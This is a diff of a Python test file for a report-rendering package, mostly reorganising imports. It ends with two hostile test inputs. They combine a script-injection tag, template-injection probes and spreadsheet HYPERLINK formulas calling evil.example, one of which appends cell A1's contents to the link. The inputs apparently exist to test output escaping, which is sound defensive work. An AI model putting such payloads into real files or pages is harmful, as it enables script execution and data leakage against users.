@@ -22,10 +22,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from playbook.chart_svg import CHART_MIMETYPE, stable_svg_ids
-from playbook.data_cache import CACHE_ENV
-from playbook.report import render_reports
-from playbook.report_html import (
+from playbook.data.cache import CACHE_ENV
+from playbook.reports.html import (
     METRICS_MIMETYPE,
     Html,
     bundle,
@@ -37,8 +35,10 @@ from playbook.report_html import (
     safe_slug,
     write_files_atomically,
 )
-from playbook.report_params import SAMPLE_DIR
-from playbook.report_runner import inject_parameters
+from playbook.reports.params import SAMPLE_DIR
+from playbook.reports.render import render_reports
+from playbook.reports.runner import inject_parameters
+from playbook.viz.svg import CHART_MIMETYPE, stable_svg_ids
 
 HOSTILE_ID = 'CP"4\'<script>alert(1)</script>\n{{ 7*7 }}=HYPERLINK("http://evil.example")'
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"go")<script>alert("name")</script></title>{{ x }}'
